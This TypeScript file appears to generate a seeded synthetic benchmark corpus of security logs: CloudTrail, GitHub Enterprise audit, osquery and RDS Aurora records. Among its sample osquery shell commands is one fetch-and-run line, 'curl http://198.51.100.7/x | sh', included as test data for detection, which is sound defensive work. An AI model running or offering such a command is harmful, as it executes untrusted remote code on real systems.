// Seeded generator of the benchmark corpus: JSON lines `{"source": "<kinesis stream>", "data": ...}`
// mixing the record kinds a production Kinesis stream carries: CloudTrail API calls via
// CloudWatch Events, GitHub Enterprise audit events, osquery differential results, and RDS Aurora
// audit logs (CSV) inside CloudWatch Logs subscription payloads.
import { SeededRandom } from "./random";

export interface CorpusLine {
  source: string;
  data: Record<string, unknown> | string;
}

const EVENT_NAMES = [
  "DescribeInstances",
  "AssumeRole",
  "GetObject",
  "PutObject",
  "CreateUser",
  "AttachRolePolicy",
  "StopLogging",
  "ConsoleLogin",
  "AuthorizeSecurityGroupIngress",
  "ListBuckets",
];
const USERS = ["alice", "bob", "carol", "dave", "eve", "mallory", "deploy-bot", "ci-runner"];
const REGIONS = ["us-east-1", "us-west-2", "eu-west-1"];
const GHE_ACTIONS = [
  "repo.create",
  "protected_branch.destroy",
  "org.disable_two_factor_requirement",
  "oauth_application.create",
  "team.add_member",
  "git.clone",
];
const OSQUERY_PACKS = [
  "pack_incident-response_last",
  "pack_osx-attacks_Keylogger",
  "pack_ir_shell_history",
];

/** A CloudTrail `userIdentity` of an IAM user of account 123456789012. */
export function iamUserIdentity(r: SeededRandom, user: string): Record<string, string> {
  return {
    type: "IAMUser",
    principalId: `AIDA${r.hex(16).toUpperCase()}`,
    arn: `arn:aws:iam::123456789012:user/${user}`,
    accountId: "123456789012",
    accessKeyId: `AKIA${r.hex(16).toUpperCase()}`,
    userName: user,
  };
}

function cloudtrailViaEvents(r: SeededRandom, i: number): Record<string, unknown> {
  const eventName = r.pick(EVENT_NAMES);
  const region = r.pick(REGIONS);
  const user = r.pick(USERS);
  const time = new Date(Date.UTC(2026, 10, 1) + i * 1000).toISOString().replace(".000", "");
  return {
    version: "0",
    id: r.uuid(),
    "detail-type": "AWS API Call via CloudTrail",
    source: "aws.ec2",
    account: "123456789012",
    time,
    region,
    resources: [],
    detail: {
      eventVersion: "1.08",
      userIdentity: iamUserIdentity(r, user),
      eventTime: time,
      eventSource: "ec2.amazonaws.com",
      eventName,
      awsRegion: region,
      sourceIPAddress: r.ipv4(),
      userAgent: "aws-cli/2.15.0 Python/3.11.6 Linux/6.1 botocore/2.4.5",
      requestParameters: { instancesSet: { items: [{ instanceId: `i-${r.hex(17)}` }] } },
      responseElements: null,
      requestID: r.uuid(),
      eventID: r.uuid(),
      eventType: "AwsApiCall",
      recipientAccountId: "123456789012",
    },
  };
}

/** A GitHub Enterprise audit event as Logstash forwards it: the JSON inside a syslog line. */
function githubAudit(r: SeededRandom, i: number): Record<string, unknown> {
  const time = new Date(Date.UTC(2026, 10, 1) + i * 1000);
  const iso = time.toISOString();
  // "Nov  1 00:00:05", as syslog writes it
  const syslogTime = `${time.toUTCString().slice(8, 11)} ${String(time.getUTCDate()).padStart(2)} ${iso.slice(11, 19)}`;
  const actor = r.pick(USERS);
  const audit = {
    action: r.pick(GHE_ACTIONS),
    actor,
    actor_ip: r.ipv4(),
    actor_location: { country_code: r.pick(["US", "DE", "GB", "JP"]) },
    created_at: iso,
    data: { _document_id: r.hex(22) },
    org: "acme",
    repo: `acme/${r.pick(["api", "web", "infra", "secrets"])}`,
    user: r.pick(USERS),
  };
  return {
    "@timestamp": iso,
    "@version": "1",
    host: "10.0.8.20",
    logsource: "github-primary",
    message: `${syslogTime} github-primary github_audit: ${JSON.stringify(audit)}`,
    pid: String(r.int(1000, 65000)),
    port: "5514",
    program: "github_audit",
    received_at: iso,
    tags: [],
    timestamp: syslogTime,
  };
}

function osqueryDifferential(r: SeededRandom, i: number): Record<string, unknown> {
  const unixTime = 1761955200 + i;
  return {
    name: r.pick(OSQUERY_PACKS),
    hostIdentifier: `host-${r.int(1, 500)}.acme.internal`,
    calendarTime: new Date(unixTime * 1000).toUTCString(),
    unixTime,
    epoch: 0,
    counter: r.int(0, 1000),
    numerics: false,
    decorations: { host_uuid: r.uuid(), environment: "prod" },
    columns: {
      username: r.pick(USERS),
      command: r.pick(["curl http://198.51.100.7/x | sh", "ls -la", "sudo su", "vim notes"]),
      time: String(unixTime),
    },
    action: r.pick(["added", "removed"]),
  };
}

function rdsAuroraInLogs(r: SeededRandom, i: number): Record<string, unknown> {
  const events = [];
  const n = r.int(1, 4);
  for (let k = 0; k < n; k++) {
    const ts = 1761955200000000 + i * 1000 + k;
    const message = [
      ts,
      "db-primary",
      r.pick(USERS),
      r.ipv4(),
      r.int(1, 99999),
      r.int(1, 999999),
      "QUERY",
      "appdb",
      `'SELECT * FROM accounts WHERE id = ${r.int(1, 1e6)}'`,
      0,
    ].join(",");
    events.push({ id: `${r.int(1e9, 9e9)}${k}`, timestamp: Math.floor(ts / 1000), message });
  }
  return {
    messageType: "DATA_MESSAGE",
    owner: "123456789012",
    logGroup: "/aws/rds/cluster/acme-prod/audit",
    logStream: "db-primary.audit.log.0",
    subscriptionFilters: ["acme_prod_rds_audit"],
    logEvents: events,
  };
}

/** The log families (data_sources entries) a stream must carry for the corpus to classify. */
export const CORPUS_LOG_FAMILIES = ["cloudwatch", "ghe", "osquery"];

const KINDS = [cloudtrailViaEvents, githubAudit, osqueryDifferential, rdsAuroraInLogs];

/** `count` corpus lines for `stream`, the same for the same seed. */
export function* generateCorpus(count: number, stream: string, seed = 42): Generator<CorpusLine> {
  const r = new SeededRandom(seed);
  for (let i = 0; i < count; i++) {
    yield { source: stream, data: KINDS[i % KINDS.length](r, i) };
  }
}
